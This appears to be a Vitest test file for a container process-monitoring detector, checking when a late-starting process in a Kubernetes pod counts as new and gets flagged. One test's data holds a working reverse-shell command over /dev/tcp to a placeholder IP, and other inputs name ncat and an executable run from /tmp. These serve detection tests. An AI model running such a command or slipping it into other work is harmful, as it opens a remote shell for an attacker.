import { describe, expect, it } from 'vitest';
import { Trait } from '../../event/traits.ts';
import { type Extras, type Story, type Telling, tell } from '../testing/told.ts';
import { child, main, shim, web } from '../testing/webPod.ts';

/** The same pod again under another name. */
const sibling = (telling: Telling, over: Partial<Telling> = {}): Telling => ({
  ...telling,
  id: `${telling.id}'`,
  ...(telling.parent === undefined || telling.parent === 'shim'
    ? {}
    : { parent: `${telling.parent}'` }),
  pod: 'shop/web-2/u2',
  container: 'web#other',
  ...over,
});

function flagOf(story: Story, id: string, code: string) {
  return story.card(id).flags.find((flag) => flag.code === code);
}

describe('lateByMs', () => {
  it('counts from the start of main’s first image', () => {
    const story = tell([shim, { ...main, at: 101 }, child()]);
    expect(story.card('x')).toMatchObject({ lateByMs: 299_000, lateBase: 'main' });
  });

  it('else from the container’s start', () => {
    const story = tell([shim, child({ parent: 'shim' })]);
    expect(story.card('x')).toMatchObject({ lateByMs: 300_000, lateBase: 'container_start' });
  });

  it('else from the first process seen of the container', () => {
    const { containerStart: _, ...bare } = web;
    const first: Telling = { id: 'first', parent: 'gone', at: 350, pid: 69, ...bare };
    const { containerStart: __, ...late } = child({ parent: 'first' });
    const story = tell([first, late]);
    expect(story.card('x')).toMatchObject({ lateByMs: 50_000, lateBase: 'first_seen' });
  });

  it('is never negative (D19)', () => {
    const story = tell([shim, main, child({ at: 99.99 })]);
    expect(story.card('x').lateByMs).toBe(0);
  });

  it('is unknown without a start, and then never late', () => {
    const story = tell([shim, main, child({ start: false, ktime: false })]);
    expect(story.card('x')).toMatchObject({ lateByMs: undefined, late: false, loud: false });
  });

  it('is measured on the boot’s clock when the wall clock was stepped between (D18)', () => {
    const story = tell([shim, main, child({ at: 130, start: 170 })]);
    expect(story.card('x').lateByMs).toBe(30_000);
  });
});

describe('late', () => {
  it('is above the limit, 60 s by default, not at it', () => {
    expect(tell([shim, main, child({ at: 160 })]).card('x').late).toBe(false);
    expect(tell([shim, main, child({ at: 160.001 })]).card('x').late).toBe(true);
  });

  it('moves with the limit', () => {
    expect(tell([shim, main, child()], { limitMs: 300_000 }).card('x').late).toBe(false);
    expect(tell([shim, main, child()], { limitMs: 299_999 }).card('x').late).toBe(true);
  });

  it('counts forks', () => {
    expect(tell([shim, main, child({ rank: 3, traits: Trait.ownEventSeen })]).card('x').late).toBe(
      true,
    );
  });

  it('counts processes from /proc by their start, not by when the agent found them', () => {
    const found = child({ traits: Trait.procfs, at: 101, seen: [5000, 5000] });
    expect(tell([shim, main, found]).card('x').late).toBe(false);
  });
});

describe('new', () => {
  it('is a command not seen in the container before the limit: late and new, loud', () => {
    const story = tell([shim, main, child()]);
    expect(story.card('x')).toMatchObject({ late: true, isNew: true, loud: true });
    expect(flagOf(story, 'x', 'late_new')?.inputs).toMatchObject({
      lateByMs: 300_000,
      limitMs: 60_000,
      base: 'main',
      template: '-l #',
      parentBinary: '/app',
    });
  });

  it('is not a command seen before the limit: late only, a quiet outline', () => {
    const story = tell([
      shim,
      main,
      child({ id: 'early', at: 110, args: '-l 9' }),
      child({ pid: 71 }),
    ]);
    expect(story.card('x')).toMatchObject({ late: true, isNew: false, loud: false });
    expect(flagOf(story, 'x', 'late_seen')?.inputs).toMatchObject({ novelty: 'seen_in_container' });
  });

  it.each([
    ['another parent image', { binary: '/bin/other' }, {}],
    ['another image', {}, { binary: '/bin/ncat' }],
    ['another template', {}, { args: '-l 1 -v' }],
  ])('is a command that differs by %s', (_what, parent, own) => {
    const story = tell([
      shim,
      main,
      { ...child({ id: 'p', at: 105, pid: 66, binary: '/bin/sh' }), ...parent },
      child({
        id: 'early',
        at: 110,
        pid: 71,
        parent: Object.keys(parent).length === 0 ? 'main' : 'p',
      }),
      child({ pid: 72, ...own }),
    ]);
    expect(story.card('x').isNew).toBe(true);
  });

  it('is an injected command of which only the application’s own child was seen', () => {
    const story = tell([
      shim,
      main,
      child({ id: 'early', parent: 'shim', at: 99, pid: 71 }),
      child({ parent: 'shim', pid: 72 }),
    ]);
    expect(story.card('early').role).toBe('main');
    expect(story.card('x')).toMatchObject({ role: 'injected', isNew: true });
    expect(flagOf(story, 'x', 'late_new')?.inputs).not.toHaveProperty('parentBinary');
  });

  it('is nothing that starts before the limit', () => {
    expect(tell([shim, main, child({ at: 120 })]).card('x')).toMatchObject({
      isNew: false,
      late: false,
    });
  });

  it('is not what another pod of the workload did before its own limit and before this start', () => {
    const other = sibling(main, { at: 200, containerStart: 200, pid: 160 });
    const early = sibling(child(), { at: 230, pid: 170 });
    expect(tell([shim, main, child(), other, early]).card('x')).toMatchObject({ isNew: false });
    expect(
      flagOf(tell([shim, main, child(), other, early]), 'x', 'late_seen')?.inputs,
    ).toMatchObject({
      novelty: 'seen_in_workload',
    });
  });

  it('is what the other pod did only after its limit: a worm in all replicas does not become normal', () => {
    const other = sibling(main, { at: 200, containerStart: 200, pid: 160 });
    const worm = sibling(child(), { at: 300, pid: 170 });
    const story = tell([shim, main, child(), other, worm]);
    expect(story.card('x').isNew).toBe(true);
    expect(story.card("x'").isNew).toBe(true);
  });

  it('is what the other pod did only after this start', () => {
    const other = sibling(main, { at: 450, containerStart: 450, pid: 160 });
    const later = sibling(child(), { at: 460, pid: 170 });
    expect(tell([shim, main, child(), other, later]).card('x').isNew).toBe(true);
  });

  it('takes no other workload, namespace, cluster or container for a sibling', () => {
    const other = (over: Partial<Telling>): readonly Telling[] => [
      sibling(main, { at: 200, containerStart: 200, pid: 160, ...over }),
      sibling(child(), { at: 230, pid: 170, ...over }),
    ];
    for (const over of [
      { workload: 'other' },
      { pod: 'bank/web-2/u2' },
      { cluster: 'west' },
      { container: 'sidecar' },
    ]) {
      expect(tell([shim, main, child(), ...other(over)]).card('x').isNew).toBe(true);
    }
  });

  it('asks the pod-template-hash for the workload where the agent names none', () => {
    const named = (pod: string) => ({
      pod,
      workload: '',
      labels: ['pod-template-hash=6d4cf56db6'],
    });
    const story = tell([
      shim,
      { ...main, ...named('shop/web-6d4cf56db6-aaaaa/u1') },
      child(named('shop/web-6d4cf56db6-aaaaa/u1')),
      sibling(main, {
        at: 200,
        containerStart: 200,
        pid: 160,
        ...named('shop/web-6d4cf56db6-bbbbb/u2'),
      }),
      sibling(child(), { at: 230, pid: 170, ...named('shop/web-6d4cf56db6-bbbbb/u2') }),
    ]);
    expect(story.card('x').isNew).toBe(false);
  });

  it('takes every instance of the name in the pod for this container, each before its own limit', () => {
    const again = { container: 'web#2', containerStart: 1000 };
    const restarted: Telling = { ...main, id: 'main2', pid: 80, at: 1000, ...again };
    const before = child({ id: 'early', at: 110 });
    const story = tell([
      shim,
      main,
      before,
      restarted,
      child({ parent: 'main2', at: 2000, pid: 81, ...again }),
    ]);
    expect(story.card('x')).toMatchObject({ isNew: false, lateByMs: 1_000_000 });
    const late = child({ id: 'early', at: 500 });
    const loud = tell([
      shim,
      main,
      late,
      restarted,
      child({ parent: 'main2', at: 2000, pid: 81, ...again }),
    ]);
    expect(loud.card('x').isNew).toBe(true);
  });

  it('is as new as its parent when it runs its parent’s image with its parent’s arguments', () => {
    const worker = child({ binary: '/app', args: 'serve', rank: 3, traits: Trait.ownEventSeen });
    expect(tell([shim, main, worker]).card('x')).toMatchObject({
      late: true,
      isNew: false,
      loud: false,
    });
    const execd = child({ binary: '/app', args: 'serve' });
    expect(tell([shim, main, execd]).card('x').isNew).toBe(false);
    const evil = child({ id: 'evil', pid: 69, at: 390 });
    expect(tell([shim, main, evil, child({ parent: 'evil' })]).card('x').isNew).toBe(true);
  });

  it('does not let a shell of the entrypoint make a later reverse shell old', () => {
    const entry = child({ id: 'entry', at: 101, binary: '/bin/sh', args: '-c "exec /start.sh"' });
    const shell = child({
      pid: 72,
      binary: '/bin/sh',
      args: '-c "sh -i >& /dev/tcp/203.0.113.9/443 0>&1"',
    });
    expect(tell([shim, main, entry, shell]).card('x')).toMatchObject({ isNew: true, loud: true });
  });

  it('is not suppressed by the role main: pid 1 that execs /tmp/x after five minutes is loud', () => {
    const exec: Telling = { ...main, id: 'x', parent: 'main', at: 400, binary: '/tmp/x', args: '' };
    const story = tell([shim, main, exec]);
    expect(story.tree()).toBe('shim(main>x)');
    expect(story.card('x')).toMatchObject({
      role: 'main',
      isNew: true,
      loud: true,
      lateByMs: 300_000,
    });
    expect(story.card('x').images.map(({ isNew }) => isNew)).toEqual([false, true]);
  });

  it('shows the worst of the images, each judged alone', () => {
    const next = child({ id: 'y', parent: 'x', at: 500, binary: '/bin/cat', args: '' });
    const early = child({ id: 'early', at: 110, pid: 71 });
    const nested = child({
      id: 'early2',
      parent: 'early',
      at: 111,
      pid: 71,
      binary: '/bin/cat',
      args: '',
    });
    const story = tell([shim, main, early, nested, child({ args: '-l 1 -e' }), next]);
    expect(story.tree()).toContain('x>y');
    expect(story.card('x')).toMatchObject({ isNew: true, lateByMs: 300_000 });
    expect(story.card('x').images.map(({ isNew }) => isNew)).toEqual([true, false]);
  });
});

describe('novelty unknown', () => {
  const unknown = (tellings: readonly Telling[], extras: Extras = {}): Story =>
    tell(tellings, extras);

  it('when the log begins after the base: drawn quiet', () => {
    const story = unknown([shim, main, child()], { log: [106, 9000] });
    expect(story.card('x')).toMatchObject({ late: true, isNew: undefined, loud: false });
    expect(story.flags('x')).toEqual(['novelty_unknown']);
  });

  it('not when the log begins with the container, give or take its first 5 s', () => {
    expect(unknown([shim, main, child()], { log: [105, 9000] }).card('x').isNew).toBe(true);
  });

  it('when the log ends before base + limit', () => {
    expect(unknown([shim, main, child()], { log: [0, 159] }).card('x').isNew).toBeUndefined();
  });

  it('when the base is only the first process seen', () => {
    const { containerStart: _, ...bare } = web;
    const first: Telling = { id: 'first', parent: 'gone', at: 100, pid: 69, ...bare };
    const { containerStart: __, ...late } = child({ parent: 'first' });
    const story = unknown([first, late]);
    expect(story.card('x')).toMatchObject({
      late: true,
      isNew: undefined,
      loud: false,
      lateBase: 'first_seen',
    });
  });

  it('is no excuse for a command that was seen', () => {
    const early = child({ id: 'early', at: 110, pid: 71 });
    expect(unknown([shim, main, early, child()], { log: [120, 9000] }).card('x').isNew).toBe(false);
  });
});
